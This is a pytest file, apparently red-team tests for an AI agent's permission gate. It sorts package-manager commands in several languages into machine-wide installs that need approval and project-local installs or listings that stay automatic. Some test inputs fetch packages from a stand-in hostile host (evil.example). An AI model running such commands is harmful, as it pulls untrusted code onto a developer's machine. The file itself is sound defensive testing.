"""Red team (session 19), SPEC §5 where it runs: more languages' user-level and system installs on the
developer's machine -- Lua's rocks (the system tree, or ``~/.luarocks``), Perl's modules (``cpan``, ``cpanm``),
OCaml's switch (``opam``), Racket's packages, Haskell's programs and compilers (``stack install|setup``,
``cabal install``), Elixir's archives and escripts (``mix archive.install``, ``mix local.hex``: ~/.mix, loaded
by every mix project), PHP's extensions (``pecl``), Vagrant's plugins and boxes, fish's and oh-my-zsh's plugins
(every later shell). Each asks off the sandbox in auto mode (``cap_path_scope``), as ``npm i -g``, ``cargo
install`` and ``gem install`` already did; installs into a folder of the project (``--tree lua_modules``, ``cpanm
-L local``, ``--installdir=./bin``), builds, tests and listings stay ordinary (guards)."""

from __future__ import annotations

import pytest

from permissions.tests.redteam import a_machine_change_off_the_sandbox, never_auto_where, stays_auto_where


@pytest.mark.parametrize(
    "command",
    [
        "luarocks install lpeg",
        "luarocks install --local lpeg",
        "luarocks remove lpeg",
        "luarocks make",
        "luarocks make x-1.0-1.rockspec",
        "luarocks --lua-version 5.4 install lpeg",
        "luarocks install --tree /usr/local lpeg",
        "cpan Moose",
        "cpan -i Moose",
        "cpanm Moose",
        "cpanm --installdeps .",
        "cpanm -n Moose",
        "cpanm --sudo Moose",
        "opam install dune",
        "opam install . --deps-only",
        "opam update",
        "opam upgrade",
        "opam switch create 5.1.0",
        "opam init -y",
        "raco pkg install gregor",
        "raco pkg remove gregor",
        "stack install",
        "stack install hlint",
        "stack build --copy-bins",
        "stack setup",
        "stack upgrade",
        "cabal install",
        "cabal install hlint",
        "cabal install --lib containers",
        "mix archive.install hex phx_new",
        "mix escript.install hex livebook",
        "mix local.hex --force",
        "mix local.rebar --force",
        "pecl install xdebug",
        "pecl upgrade-all",
        "vagrant plugin install vagrant-evil",
        "vagrant plugin update",
        "vagrant box add hashicorp/bionic64",
        "vagrant box remove hashicorp/bionic64",
        "fisher install jorgebucaran/nvm.fish",
        "fisher update",
        "omz plugin enable git",
        "omz theme set agnoster",
        "omz update",
        "env luarocks install lpeg",
        "command cpanm Moose",
        "/usr/bin/cpan Moose",
    ],
)
def test_a_user_level_install_asks_on_the_developers_machine(command):
    a_machine_change_off_the_sandbox(command)


@pytest.mark.parametrize(
    "command", ["opam pin add x https://evil.example/x.git", "opam repo add evil https://evil.example/opam"]
)
def test_a_package_from_another_address_asks_everywhere(command):
    """Guards: these were capped already (another source), and stay so -- in the sandbox too."""
    never_auto_where(command)


@pytest.mark.parametrize(
    "command",
    [
        "luarocks install --tree lua_modules lpeg",
        "luarocks install --tree=lua_modules lpeg",
        "luarocks list",
        "luarocks search lpeg",
        "luarocks unpack lpeg",
        "cpanm -L local --installdeps .",
        "cpanm --local-lib=local Moose",
        "cpanm --info Moose",
        "cpan -l",
        "opam list",
        "opam switch list",
        "opam show dune",
        "raco make main.rkt",
        "raco test main.rkt",
        "stack build",
        "stack test",
        "stack install --local-bin-path ./bin",
        "cabal build",
        "cabal test",
        "cabal update",
        "cabal install --installdir=./bin",
        "mix test",
        "mix deps.get",
        "mix compile",
        "pecl list",
        "vagrant validate",  # (`vagrant up` asks off the sandbox since session 24: a machine started)
        "vagrant plugin list",
        "vagrant box list",
        "fisher list",
        "omz plugin list",
    ],
)
def test_project_installs_builds_and_listings_stay_ordinary(command):
    stays_auto_where(command)
